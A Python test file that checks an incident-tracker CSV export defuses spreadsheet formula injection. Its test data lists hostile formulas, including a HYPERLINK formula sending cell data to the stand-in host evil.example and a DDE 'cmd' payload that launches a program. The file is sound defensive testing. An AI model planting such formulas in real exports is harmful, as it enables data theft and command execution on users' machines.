"""Issue 7 item 15a: the CSV export never hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io

import pytest

from app.csvcells import safe_cell

URL = "/api/v1/incidents"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1dSUM(A1)"]


def test_formula_cells_are_neutralised_in_the_export(client, world, file_incident,
                                                     backend):
    filed = {}
    for i, text in enumerate(FORMULAS):
        filed[file_incident(to=("triaged", "confirmed"), title=text,
                            summary=FORMULAS[-1 - i])["id"]] = text
    plain = file_incident(to=("triaged", "confirmed"), title="Plain title, with a comma",
                          summary='He said "hi" = fine')
    r = client.get(f"{URL}/export", params={"format": "csv"})
    assert r.status_code == 200
    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(r.text))}
    for iid, text in filed.items():
        # The real csv reader gives back the text with one leading quote: shown as text
        # by spreadsheets, never evaluated, and nothing of the original is lost.
        assert rows[iid]["title"] == "'" + text
        assert rows[iid]["summary"].startswith("'")
        assert rows[iid]["summary"][1:] in FORMULAS
    assert rows[plain["id"]]["title"] == "Plain title, with a comma"
    assert rows[plain["id"]]["summary"] == 'He said "hi" = fine'
    assert rows[plain["id"]]["severity"] == "high" and rows[plain["id"]]["labs"] == "lab-a"
    # Every cell is quoted, so a cell can never spill into its neighbours.
    assert r.text.startswith('"id","title","status"')


@pytest.mark.parametrize("value,expected", [("=1", "'=1"), ("safe", "safe"), ("", ""),
                                            (5, 5), (None, None), ("a=1", "a=1")])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
